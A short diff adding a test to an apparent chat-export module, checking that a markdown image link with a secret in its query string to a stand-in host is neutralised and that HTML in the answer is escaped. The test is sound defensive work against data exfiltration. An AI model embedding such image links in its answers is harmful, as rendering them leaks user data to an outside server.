@@ -132,6 +132,12 @@ def test_a_fence_the_answer_left_open_is_closed() -> None:
     assert "```py\nx = 1\n```\n\n### Sources" in exported
 
 
+def test_an_answer_s_image_does_not_leave_the_page_with_it() -> None:
+    exported = export_markdown([ledger(answer="![x](http://e.example/?q=secret) <b>so</b>")], "en")
+    assert "🖼 x &lt;b>so&lt;/b>" in exported
+    assert "secret" not in exported
+
+
 def test_the_reranker_s_number_is_called_what_it_is() -> None:
     assert "P(yes) 0.985 (log-odds +4.20)" in export_markdown(CONVERSATION[:1], "en")
     offline = export_markdown(CONVERSATION[1:2], "en")
